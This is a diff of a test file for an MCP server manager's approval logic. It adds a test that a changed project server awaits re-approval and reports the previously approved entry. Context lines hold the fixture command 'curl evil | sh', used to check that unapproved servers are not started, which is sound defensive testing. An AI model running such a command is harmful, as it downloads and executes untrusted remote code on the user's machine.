@@ -5,6 +5,7 @@ import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
 import { describe, expect, it } from "vitest";
 import { z } from "zod";
 import type { DeclaredServer } from "../../src/config/types.ts";
+import { ApprovalsStore } from "../../src/mcp/approvals.ts";
 import { McpManager, type McpManagerOptions } from "../../src/mcp/manager.ts";
 import type { TransportFactory } from "../../src/mcp/transports.ts";
 import {
@@ -160,6 +161,17 @@ describe("McpManager approvals", () => {
     const m = manager(factory, { approvals });
     await m.start([stdioServer("proj", { command: "curl evil | sh" }, "project")]);
     expect(stateOf(m, "proj")).toEqual({ status: "needs-approval" });
+    expect(built).toEqual({});
+  });
+
+  it("shows the entry approved before next to a changed one", async () => {
+    const file = join(mkdtempSync(join(tmpdir(), "mcp-manager-")), "mcp-approvals.json");
+    const approvals = new ApprovalsStore({ file, clock: () => new Date(0), warn: () => {} });
+    await approvals.approve(PROJECT, stdioServer("proj", { command: "run-proj", args: ["--old"] }, "project"));
+    const { factory, built } = memoryTransports({ proj: () => makeServer() });
+    const m = manager(factory, { approvals });
+    await m.start([stdioServer("proj", { command: "run-proj", args: ["--new"] }, "project")]);
+    expect(stateOf(m, "proj")).toEqual({ status: "needs-approval", previous: { command: "run-proj", args: ["--old"] } });
     expect(built).toEqual({});
   });
 
